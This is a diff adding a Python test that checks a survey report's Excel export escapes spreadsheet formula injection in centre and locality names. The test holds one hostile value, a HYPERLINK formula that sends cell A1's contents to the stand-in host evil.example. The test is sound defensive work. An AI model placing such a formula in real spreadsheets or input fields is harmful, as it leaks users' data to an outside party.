@@ -120,3 +120,25 @@ def test_json_has_the_keys_the_issue_names(report):
     assert 0 <= doc["province"]["index"]["sipas"]["estimate"] <= 1
     assert doc["demo"] is True
     assert doc["n"] == 8000
+
+
+def test_report_workbook_writes_hostile_names_as_text(app, report):
+    """A centre or locality name typed as a formula (issue 23) stays text in report.xlsx."""
+    import copy
+    import io
+
+    from openpyxl import load_workbook
+
+    from survey.reports.render import to_xlsx
+
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+    document = copy.deepcopy(report.as_dict())
+    document["quality"][0]["centre_name"] = hostile
+    document["localities"][0]["name"] = "+" + hostile[1:]
+    with app.test_request_context():
+        book = load_workbook(io.BytesIO(to_xlsx(document, {})))
+    texts = [cell for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)
+             for cell in row if isinstance(cell, str)]
+    assert "'" + hostile in texts and "'+" + hostile[1:] in texts
+    assert not any(t.startswith(("=", "+", "@")) for t in texts)
+    assert not any(t.startswith("-") and not t.startswith("–") for t in texts)
